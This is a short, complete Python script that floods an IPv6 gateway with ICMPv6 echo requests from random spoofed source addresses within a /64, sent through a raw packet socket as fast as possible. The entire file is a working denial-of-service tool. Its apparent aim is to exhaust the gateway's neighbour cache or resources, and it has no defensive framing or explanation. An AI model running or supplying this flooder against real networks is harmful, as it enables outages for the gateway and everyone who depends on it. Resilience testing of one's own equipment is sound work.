"""Program: ask a gateway over IPv6 for echoes from very many sources, as if all lived behind one.

    flood.py LINK MAC PREFIX GATEWAY GATEWAY-MAC COUNT

Sources are chosen at random from a /64. Runs on any Python 3 without packages.
"""

import os
import socket
import struct
import sys


def request(source: bytes, destination: bytes) -> bytes:
    """Return an IPv6 packet with an echo request."""
    echo = struct.pack("!BBHHH", 128, 0, 0, 7, 1)
    pseudo = source + destination + struct.pack("!II", len(echo), socket.IPPROTO_ICMPV6)
    total = sum(struct.unpack(f"!{(len(pseudo) + len(echo)) // 2}H", pseudo + echo))
    total = (total & 0xFFFF) + (total >> 16)
    total = ~(total + (total >> 16)) & 0xFFFF
    head = struct.pack("!IHBB", 6 << 28, len(echo), socket.IPPROTO_ICMPV6, 64)
    return head + source + destination + echo[:2] + struct.pack("!H", total) + echo[4:]


def main(link: str, mac: str, prefix: str, gateway: str, gateway_mac: str, count: str) -> None:
    """Send them as fast as they go."""
    macs = bytes.fromhex(gateway_mac.replace(":", "")) + bytes.fromhex(mac.replace(":", ""))
    network = socket.inet_pton(socket.AF_INET6, prefix)[:8]
    destination = socket.inet_pton(socket.AF_INET6, gateway)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((link, 0))
        for _ in range(int(count)):
            wire.send(macs + b"\x86\xdd" + request(network + os.urandom(8), destination))


if __name__ == "__main__":
    main(*sys.argv[1:])
